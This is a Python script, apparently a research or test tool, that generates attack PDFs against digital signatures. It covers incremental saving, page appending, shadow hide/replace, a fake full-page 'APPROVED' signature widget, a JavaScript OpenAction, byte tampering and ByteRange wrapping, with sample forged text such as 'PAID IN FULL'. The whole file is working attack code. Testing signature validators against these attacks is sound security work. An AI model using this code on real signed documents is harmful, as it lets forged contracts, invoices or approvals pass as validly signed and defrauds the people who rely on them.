#!/usr/bin/env python3
"""Builds attack files against PDF signatures by byte-level incremental appends.

  make_attacks.py prep IN.pdf OUT.pdf
      Prepares an unsigned document the way an attacker who authors it would: appends one
      revision that (a) puts a white "cover" content stream over page 1 (its /Contents becomes
      [original cover]) and (b) defines unused objects: a red-box content stream and a complete
      hidden catalog -> page tree -> page that draws it. Nothing shown changes until signing.
  make_attacks.py attack SIGNED.pdf OUTDIR
      From a signed copy of the prepared file (signature covering the whole file, classic xref
      table), writes one file per attack into OUTDIR:
        isa-content.pdf      incremental saving attack: page 1's content stream redefined
        append-page.pdf      a page appended (page tree node re-put, new page)
        shadow-hide.pdf      the cover removed from page 1 (page re-put without it)
        shadow-replace.pdf   page 1 also draws the object hidden in the file at signing
        shadow-hide-replace.pdf  only a new xref/trailer whose /Root is the hidden catalog
        sneaky-sig.pdf       a new "signature" field whose widget paints over the whole page
        catalog-action.pdf   the catalog re-put with a new /OpenAction (JavaScript)
        tamper-byte.pdf      one byte of the catalog's /Lang flipped (inside the signed range)
        wrap.pdf             /ByteRange edited (same length) so its gap hides other bytes
Prints the names of the files written. Uses qpdf only to read objects (an oracle, read-only).
"""
import os
import re
import subprocess
import sys


def show(path, num):
    """Object `num` (latest definition) as PDF syntax, via qpdf."""
    out = subprocess.run(["qpdf", "--show-object=%d" % num, path], check=True,
                         capture_output=True).stdout
    return out.strip()


def trailer(data):
    """(startxref, trailer dict bytes) of the last revision (classic table)."""
    m = list(re.finditer(rb"startxref\s+(\d+)\s+%%EOF", data))[-1]
    sx = int(m.group(1))
    t = data.rfind(b"trailer", 0, m.start())
    if t < 0 or t < sx:
        sys.exit("make_attacks: the last revision has no classic trailer")
    return sx, data[t + 7:m.start()]


def tget(tr, key):
    m = re.search(rb"/" + key + rb"\s*(\d+\s+\d+\s+R|\d+|\[[^\]]*\])", tr)
    return m.group(1) if m else None


def append(data, objs, root=None, raw_objs=None):
    """Appends a revision defining `objs` {num: body bytes} (gen 0) with a classic xref."""
    sx, tr = trailer(data)
    size = int(tget(tr, b"Size"))
    body = bytearray()
    if not data.endswith(b"\n"):
        body += b"\n"
    offs = {}
    for num in sorted(objs):
        offs[num] = len(data) + len(body)
        body += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
        size = max(size, num + 1)
    xref_at = len(data) + len(body)
    body += b"xref\n0 1\n0000000000 65535 f\r\n"
    for num in sorted(offs):
        body += b"%d 1\n%010d 00000 n\r\n" % (num, offs[num])
    t = b"<< /Size %d /Root %s /Prev %d" % (size, root or tget(tr, b"Root"), sx)
    for k in (b"Info", b"ID"):
        v = tget(tr, k)
        if v:
            t += b" /" + k + b" " + v
    body += b"trailer\n" + t + b" >>\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return data + bytes(body)


def stream(content, extra=b""):
    return b"<< /Length %d %s>>\nstream\n" % (len(content), extra) + content + b"\nendstream"


def refnum(ref):
    return int(ref.split()[0])


def prep(inp, out):
    data = open(inp, "rb").read()
    _, tr = trailer(data)
    size = int(tget(tr, b"Size"))
    page = first_page(inp)
    pg = show(inp, page)
    contents = re.search(rb"/Contents\s+(\d+ \d+ R)", pg).group(1)
    cover, red, cat, pages, hpage = size, size + 1, size + 2, size + 3, size + 4
    objs = {
        # a white box with no visible effect on blank margins (bottom-left corner)
        cover: stream(b"q 1 1 1 rg 0 0 20 20 re f Q"),
        red: stream(b"q 1 0 0 rg 100 400 300 120 re f Q"),
        cat: b"<< /Type /Catalog /Pages %d 0 R >>" % pages,
        pages: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % hpage,
        hpage: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>"
        % (pages, red),
        page: re.sub(rb"/Contents\s+\d+ \d+ R", b"/Contents [" + contents + b" %d 0 R]" % cover,
                     pg),
    }
    open(out, "wb").write(append(data, objs))


def first_page(path):
    out = subprocess.run(["qpdf", "--show-pages", path], check=True,
                         capture_output=True).stdout
    return int(re.search(rb"page 1: (\d+) \d+ R", out).group(1))


def attack(signed, outdir):
    data = open(signed, "rb").read()
    _, tr = trailer(data)
    size = int(tget(tr, b"Size"))
    root = refnum(tget(tr, b"Root"))
    page = first_page(signed)
    pg = show(signed, page)
    m = re.search(rb"/Contents\s+\[\s*(\d+) \d+ R\s+(\d+) \d+ R\s*\]", pg)
    if not m:
        sys.exit("make_attacks: page 1 of %s was not prepared (no [content cover])" % signed)
    content, cover = int(m.group(1)), int(m.group(2))
    red, hcat = cover + 1, cover + 2
    pages = refnum(re.search(rb"/Parent\s+(\d+ \d+ R)", pg).group(1))
    written = []

    def put(name, blob):
        open(os.path.join(outdir, name), "wb").write(blob)
        written.append(name)

    put("isa-content.pdf",
        append(data, {content: stream(b"BT /F1 24 Tf 100 700 Td (PAID IN FULL) Tj ET")}))

    pn = show(signed, pages)
    kids = re.search(rb"/Kids\s*\[([^\]]*)\]", pn).group(1)
    count = int(re.search(rb"/Count\s+(\d+)", pn).group(1))
    newpage = size
    pn2 = re.sub(rb"/Kids\s*\[[^\]]*\]", b"/Kids [" + kids + b" %d 0 R]" % newpage, pn)
    pn2 = re.sub(rb"/Count\s+\d+", b"/Count %d" % (count + 1), pn2)
    put("append-page.pdf", append(data, {
        pages: pn2,
        newpage: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>"
        % (pages, red)}))

    put("shadow-hide.pdf", append(data, {
        page: re.sub(rb"/Contents\s+\[[^\]]*\]", b"/Contents %d 0 R" % content, pg)}))
    put("shadow-replace.pdf", append(data, {
        page: re.sub(rb"/Contents\s+\[[^\]]*\]",
                     b"/Contents [%d 0 R %d 0 R %d 0 R]" % (content, cover, red), pg)}))
    put("shadow-hide-replace.pdf", append(data, {}, root=b"%d 0 R" % hcat))

    # sneaky signature: a new signature field whose widget covers the page with a white box
    # and new text; the field's value is a signature dictionary that signs nothing real.
    f, ap, v = size, size + 1, size + 2
    cat = show(signed, root)
    af_ref = re.search(rb"/AcroForm\s+(\d+) \d+ R", cat)
    objs = {
        ap: stream(b"q 1 1 1 rg 0 0 595 842 re f Q BT /Helv 30 Tf 80 600 Td (APPROVED) Tj ET",
                   b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "),
        v: b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
           b"/ByteRange [0 10 20 30] /Contents <" + b"00" * 64 + b"> >>",
        f: b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature2) /F 4 /P %d 0 R "
           b"/Rect [0 0 595 842] /AP << /N %d 0 R >> /V %d 0 R >>" % (page, ap, v),
    }
    annots = re.search(rb"/Annots\s*\[([^\]]*)\]", pg)
    if annots:
        objs[page] = re.sub(rb"/Annots\s*\[[^\]]*\]",
                            b"/Annots [" + annots.group(1) + b" %d 0 R]" % f, pg)
    else:
        objs[page] = pg[:-2].rstrip() + b" /Annots [%d 0 R] >>" % f
    if af_ref:
        afn = int(af_ref.group(1))
        af = show(signed, afn)
        fl = re.search(rb"/Fields\s*\[([^\]]*)\]", af).group(1)
        objs[afn] = re.sub(rb"/Fields\s*\[[^\]]*\]", b"/Fields [" + fl + b" %d 0 R]" % f, af)
    put("sneaky-sig.pdf", append(data, objs))

    put("catalog-action.pdf", append(data, {
        root: re.sub(rb"/OpenAction\s*\[[^\]]*\]", b"", cat)[:-2].rstrip() +
        b" /OpenAction << /S /JavaScript /JS (app.alert\\('hi'\\)) >> >>"}))

    # one byte inside the signed range: the catalog's /Lang string (same length, still valid)
    # (else the first byte of page 1's content stream data)
    m = list(re.finditer(rb"/Lang\s*\((\w\w)", data))
    t = bytearray(data)
    if m:
        t[m[-1].start(1)] ^= 0x01
    else:
        cm = list(re.finditer(rb"\n%d 0 obj" % content, data))[0]
        t[data.index(b"stream", cm.start()) + 7] ^= 0x01
    put("tamper-byte.pdf", bytes(t))

    # ByteRange [0 a b c] -> [0 a-16 b c]: same length, the gap now starts 16 bytes early
    br = list(re.finditer(rb"/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data))[-1]
    a = int(br.group(1))
    old = br.group(0)
    new = old.replace(br.group(1), b"%d" % (a - 16), 1)
    new = new[:len(old)] if len(new) >= len(old) else new.replace(b"]", b" " * (len(old) - len(new)) + b"]")
    put("wrap.pdf", data[:br.start()] + new + data[br.end():])
    print("\n".join(written))


def main():
    if len(sys.argv) == 4 and sys.argv[1] == "prep":
        prep(sys.argv[2], sys.argv[3])
    elif len(sys.argv) == 4 and sys.argv[1] == "attack":
        os.makedirs(sys.argv[3], exist_ok=True)
        attack(sys.argv[2], sys.argv[3])
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
